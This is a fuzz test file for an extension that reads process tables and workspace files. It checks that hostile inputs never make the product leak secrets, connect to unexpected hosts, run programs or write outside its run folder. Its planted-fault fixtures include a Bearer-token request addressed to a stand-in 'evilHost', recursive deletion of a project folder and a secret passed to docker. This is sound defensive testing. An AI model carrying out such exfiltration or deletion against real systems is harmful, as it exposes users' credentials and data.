// Everything that reads, over inputs that a hostile workspace, environment, run folder and process table may hold, made from a seed.
// FUZZ_SEED=N replays one seed; FUZZ_COUNT=N runs another number of them, FUZZ_FIRST=N from another first one.
import assert from 'node:assert/strict';
import { type ChildProcess, spawn } from 'node:child_process';
import { lstatSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { Worker } from 'node:worker_threads';
import { tooltipCommands } from '../../../src/extension/display/statusModel.ts';
import type { ProcessRow } from '../../../src/model/process.ts';
import { ProcTable } from '../../../src/process/linux/procTable.ts';
import { isPublicIndex } from '../../../src/registry/publicIndexes.ts';
import { assertNames } from '../../names.ts';
import { canaryMark } from '../../unit/redaction/secretGenerator.ts';
import { until } from '../../until.ts';
import { type Boundaries, isExpectedProgram, watchBoundaries } from './boundaries.ts';
import { holdsCanary, putClientFiles } from './hostileClients.ts';
import { putEnvironment, userHosts } from './hostileEnvironment.ts';
import { HostileTree, makeSpecialFiles, type SpecialFiles } from './hostileFiles.ts';
import { makeProcesses, showProcesses } from './hostileProcesses.ts';
import { putRunFolder } from './hostileRunFolder.ts';
import { Chance, evilHost } from './hostileText.ts';
import { inTime, readEverything, type Shown, Stuck } from './readPaths.ts';

const one = process.env.FUZZ_SEED;
const first = Number(one ?? process.env.FUZZ_FIRST ?? 0);
const count = one === undefined ? Number(process.env.FUZZ_COUNT ?? (process.env.TEST_LONG === '1' ? 20_000 : 500)) : 1;
/** Whether the world is read in every way. */
const all = one !== undefined;
/** For one world without a pause, ms of processor time: then no timer runs, and the watchdog ends this process. */
const limitMs = 60_000;

const regularFile = 0o100_000;
const watchdogFile = fileURLToPath(new URL('./watchdog.mjs', import.meta.url));
/** Functions of Node before they are watched. */
const [spawnReal, quietWrite, quietRemove] = [spawn, writeFileSync, rmSync];

/** A process that the world must not end. */
function spawnOther(): ChildProcess {
  return spawnReal('sleep', ['86400'], { stdio: 'ignore', detached: true });
}

/** What a text does where it is shown. */
function faultsOf({ where, text, kind }: Shown): string[] {
  const near = (at: number): string => JSON.stringify(text.slice(Math.max(0, at - 80), at + 60));
  const faults: string[] = [];
  const canary = text.indexOf(canaryMark);
  if (canary >= 0) {
    faults.push(`${where} shows a secret: ${near(canary)}`);
  }
  const raw =
    kind === 'log'
      ? -1
      : text.search(kind === 'terminal' || kind === 'question' ? /[^\P{Cc}\n]|[\u202a-\u202e\u2066-\u2069]/u : /[^\P{Cc}\n]/u);
  if (raw >= 0) {
    faults.push(`${where} has a raw control character: ${near(raw)}`);
  }
  if (kind === 'markdown') {
    // Without what is escaped, only our own links remain.
    const live = text.replace(/\\./gs, '');
    for (const [link, address = ''] of live.matchAll(/\]\(([^)]*)\)/g)) {
      if (!tooltipCommands.some((name) => address.startsWith(`command:${name}`))) {
        faults.push(`${where} has a link: ${JSON.stringify(link)}`);
      }
    }
    if (/[<]|!\[/.test(live)) {
      faults.push(`${where} has live markup: ${near(text.search(/(?<!\\)<|!\[/))}`);
    }
  }
  if (kind === 'notice' && /\]\(/.test(text)) {
    faults.push(`${where} has a link: ${near(text.search(/\]\(/))}`);
  }
  return faults;
}

/** Path, kind, size and time of everything in the world. No link is followed: one may lead to the root of the system. */
function census({ root }: HostileTree): Map<string, string> {
  const seen = new Map<string, string>();
  for (const folders = [root]; ; ) {
    const folder = folders.pop();
    if (folder === undefined) {
      return seen;
    }
    for (const name of readdirSync(folder)) {
      const path = join(folder, name);
      const { mode, size, mtimeMs, nlink } = lstatSync(path);
      const kind = mode & 0o170_000;
      seen.set(path, kind === regularFile ? `${mode} ${size} ${mtimeMs} ${nlink}` : `${mode}`);
      if (kind === 0o040_000) {
        folders.push(path);
      }
    }
  }
}

type World = Parameters<typeof readEverything>[0];

describe('hostile input', function () {
  this.timeout(24 * 3_600_000);
  let special: SpecialFiles;
  let sink: ChildProcess;
  let canaries: ChildProcess[];
  let boundaries: Boundaries;
  let watchdog: Worker;
  let port = 0;
  let rows: readonly ProcessRow[];
  const current = new Int32Array(new SharedArrayBuffer(4)).fill(-1);
  const sent: string[] = [];
  /** What still runs would be taken for a deed of the next world: no other follows. */
  let stuck = false;

  before(async function () {
    if (process.platform !== 'linux') {
      console.log('skipped: the processes are made with what Linux offers');
      this.skip();
    }
    special = await makeSpecialFiles();
    sink = spawn(process.execPath, [fileURLToPath(new URL('./sink.mjs', import.meta.url)), ...userHosts], {
      stdio: ['pipe', 'pipe', 'inherit'],
      env: { MARK: canaryMark },
    });
    sink.stdout?.setEncoding('utf8').on('data', (text: string) => sent.push(...text.split('\n').filter((line) => line !== '')));
    port = Number(await until('the sink listens', () => sent.shift()));
    canaries = [spawnOther(), spawnOther()];
    await until('the canaries run', () => canaries.every(({ pid }) => pid !== undefined));
    const visible = new Set([process.pid, process.ppid, 1, sink.pid, ...canaries.map(({ pid }) => pid)]);
    rows = (await new ProcTable().list()).filter(({ pid }) => visible.has(pid));
    watchdog = new Worker(watchdogFile, { workerData: { shared: current, limitMs } });
    watchdog.unref();
    boundaries = watchBoundaries(port);
  });

  after(async () => {
    boundaries?.restore();
    await watchdog?.terminate();
    for (const child of [sink, ...(canaries ?? [])]) {
      child?.kill('SIGKILL');
    }
    special?.close();
  });

  /**
   * One world: made, read, judged, removed.
   * @param plant acts instead of the product
   * @returns what is wrong, with the number that replays it
   */
  async function faultsWith(seed: number, plant?: (world: World) => unknown): Promise<string[]> {
    const chance = new Chance(seed);
    const tree = new HostileTree(chance, special);
    const shown: Shown[] = [];
    let hide: () => void = () => undefined;
    try {
      const { launches, names } = putClientFiles(tree, putEnvironment(tree), port);
      const processes = makeProcesses(tree, launches);
      const claimed = putRunFolder(tree, rows);
      hide = showProcesses(
        processes,
        rows.map(({ pid }) => pid),
        chance,
      );
      const inRunFolder = (path: string): boolean => `${path}/`.startsWith(`${tree.runDir}/`);
      const before = census(tree);
      boundaries.clear();
      const env = {
        HOME: tree.home,
        PATH: process.env.PATH,
        MCP_RUN_DIR: tree.runDir,
        API_KEY: chance.secret(),
        NPM_TOKEN: chance.secret(),
      };
      const reading = { tree, rows, claimed, names, pids: processes.map(({ pid }) => pid), env, shown };
      const reads = plant ? Promise.resolve(reading).then(plant) : readEverything(reading, all);
      const ended = await reads.then(
        () => undefined,
        (error: unknown) => {
          stuck ||= error instanceof Stuck;
          return error instanceof Stuck ? error.message : `throws ${error instanceof Error ? error.stack : String(error)}`;
        },
      );
      // A rejection that nothing handles is reported after the turn in which it happened.
      await new Promise((turn) => setImmediate(turn));
      const { signals, connections, programs, writes, unhandled } = boundaries;
      const faults = ended === undefined ? [] : [ended];
      faults.push(...shown.flatMap(faultsOf));
      faults.push(...unhandled.map((error) => `an error is not handled: ${error instanceof Error ? error.stack : String(error)}`));
      faults.push(...signals.map((signal) => `sends ${signal}`));
      faults.push(...connections.filter((target) => !isExpectedTarget(target, tree)).map((target) => `connects to ${target}`));
      faults.push(
        ...programs
          .filter((words) => !isExpectedProgram(words, tree.root) || holdsCanary(words.join(' ')))
          .map((words) => `runs ${words.join(' ')}`),
      );
      faults.push(...writes.filter((path) => !inRunFolder(path) && path !== '/dev/null').map((path) => `writes ${path}`));
      const after = census(tree);
      for (const path of new Set([...before.keys(), ...after.keys()])) {
        const face = after.get(path);
        if (before.get(path) === face) {
          continue;
        }
        if (!inRunFolder(path)) {
          faults.push(`changes ${path}: ${before.get(path)} → ${face}`);
        } else if ((Number.parseInt(face ?? '0', 10) & 0o170_000) === regularFile && holdsCanary(readFileSync(path, 'latin1'))) {
          faults.push(`stores a secret in ${path}`);
        }
      }
      for (const { pid = 0, exitCode, signalCode } of [...canaries, sink]) {
        if (exitCode !== null || signalCode !== null) {
          faults.push(`process ${pid} ended`);
        }
      }
      faults.push(...sent.splice(0).map((request) => `sends a secret: ${request}`));
      return [...new Set(faults)].slice(0, 5).map((fault) => `FUZZ_SEED=${seed}: ${fault}`);
    } finally {
      hide();
      tree.remove();
    }
  }

  /** Loopback, what the user's settings name, public registries, sockets of the run folder. */
  function isExpectedTarget(target: string, { runDir }: HostileTree): boolean {
    const host = target.replace(/:\d+$/, '');
    return (
      target.startsWith(`${runDir}/`) ||
      /^(127\.0\.0\.1|::1|localhost)$/.test(host) ||
      userHosts.includes(host) ||
      (URL.canParse(`https://${host}`) && isPublicIndex(new URL(`https://${host}`)))
    );
  }

  /** What a fault does, and how its report begins. */
  const planted: Readonly<Record<string, readonly [fault: (world: World) => unknown, report: string]>> = {
    'a secret in a text': [({ tree, shown }) => shown.push({ where: 'x', text: tree.chance.secret(), kind: 'log' }), 'x shows a secret'],
    'an escape sequence': [({ shown }) => shown.push({ where: 'x', text: 'a\x1b[31m', kind: 'terminal' }), 'x has a raw control character'],
    'a second line in a label': [({ shown }) => shown.push({ where: 'x', text: 'a\rb', kind: 'label' }), 'x has a raw control character'],
    'a link': [({ shown }) => shown.push({ where: 'x', text: '[a](command:workbench.action.quit)', kind: 'markdown' }), 'x has a link'],
    'a link in a notice': [({ shown }) => shown.push({ where: 'x', text: '[a](http://h)', kind: 'notice' }), 'x has a link'],
    'a picture': [({ shown }) => shown.push({ where: 'x', text: '![a', kind: 'markdown' }), 'x has live markup'],
    'an exception': [() => Promise.reject(new Error('planted')), 'throws Error: planted'],
    'an error that nothing handles': [() => void Promise.reject(new Error('planted')), 'an error is not handled'],
    'a signal': [() => process.kill(canaries[0]?.pid ?? 0, 'SIGTERM'), 'sends SIGTERM'],
    'a connection': [() => connect(80, evilHost).on('error', () => undefined), `connects to ${evilHost}`],
    'a secret sent to another host': [
      async ({ tree }) => {
        const lines = [`GET / HTTP/1.1`, `Host: ${evilHost}`, `Authorization: Bearer ${tree.chance.secret()}`, '', ''];
        connect(80, 'localhost')
          .on('error', () => undefined)
          .end(lines.join('\r\n'));
        await until('the sink tells it', () => sent.length > 0);
      },
      'sends a secret',
    ],
    'a program of the world': [({ tree }) => spawn(join(tree.project, 'server.js')), 'runs '],
    'a secret in arguments of a program': [({ tree }) => spawn('/usr/bin/docker', [tree.chance.secret()]), 'runs /usr/bin/docker'],
    'a file outside of the run folder': [({ tree }) => writeFileSync(join(tree.home, 'x'), ''), 'writes '],
    'a change that no function of Node shows': [({ tree }) => quietWrite(join(tree.home, 'x'), ''), 'changes '],
    'a removed file': [({ tree }) => quietRemove(tree.project, { recursive: true }), 'changes '],
    'a stored secret': [
      ({ tree }) => {
        mkdirSync(tree.runDir, { recursive: true });
        writeFileSync(join(tree.runDir, 'x'), tree.chance.secret());
      },
      'stores a secret in ',
    ],
    'an ended process': [
      async () => {
        canaries.push(spawnOther());
        const [first] = canaries;
        first?.kill('SIGKILL');
        await until('it ends', () => first?.signalCode);
      },
      'process ',
    ],
    'a step that does not end': [() => inTime('x', new Promise(() => undefined), 10), 'x takes more than 0.01 s'],
  };

  it('finds nothing where nothing reads', async () => assert.deepEqual(await faultsWith(0, () => undefined), []));

  for (const [what, [fault, report]] of Object.entries(planted)) {
    it(`finds ${what}, and tells the world`, async () => {
      const found = await faultsWith(0, fault);
      stuck = false;
      canaries = canaries.filter(({ signalCode }) => signalCode === null);
      assert.ok(
        found.some((line) => line.startsWith(`FUZZ_SEED=0: ${report}`)),
        found.join('\n'),
      );
    });
  }

  it('ends a process that hangs without a pause, and tells the world', async () => {
    const script = `const { Worker } = require('node:worker_threads');
const shared = new Int32Array(new SharedArrayBuffer(4)).fill(4711);
const watchdog = new Worker(${JSON.stringify(watchdogFile)}, { workerData: { shared, limitMs: 100 } });
watchdog.on('online', () => { for (;;); });`;
    const child = spawnReal(process.execPath, ['-e', script], { stdio: ['ignore', 'ignore', 'pipe'] });
    let told = '';
    child.stderr?.setEncoding('utf8').on('data', (text: string) => {
      told += text;
    });
    await until('it is ended', () => child.signalCode !== null && told !== '');
    assert.equal(child.signalCode, 'SIGKILL');
    assertNames(told, 'FUZZ_SEED=4711');
  });

  it(`${count} worlds: nothing crashes, hangs, leaks, signals, connects elsewhere, or writes outside of the run folder`, async () => {
    const found: string[] = [];
    const times: number[] = [];
    for (let seed = first; seed < first + count && found.length < 20 && !stuck; seed += 1) {
      Atomics.store(current, 0, seed);
      const began = performance.now();
      found.push(...(await faultsWith(seed)));
      times.push(performance.now() - began);
    }
    Atomics.store(current, 0, -1);
    // What the sink still tells belongs to one of the last worlds; the secret in it names the world.
    sink.stdin?.end();
    await until('the sink ends', () => sink.exitCode !== null);
    found.push(...sent.splice(0).map((request) => `sends a secret: ${request}`));
    if (process.env.FUZZ_COUNT !== undefined) {
      const sorted = [...times].sort((a, b) => a - b);
      const longest = sorted.at(-1) ?? 0;
      console.log(
        `median ${sorted[sorted.length >> 1]?.toFixed(0)} ms; longest ${longest.toFixed(0)} ms: seed ${first + times.indexOf(longest)}`,
      );
    }
    assert.deepEqual(found, [], found.join('\n'));
  });
});
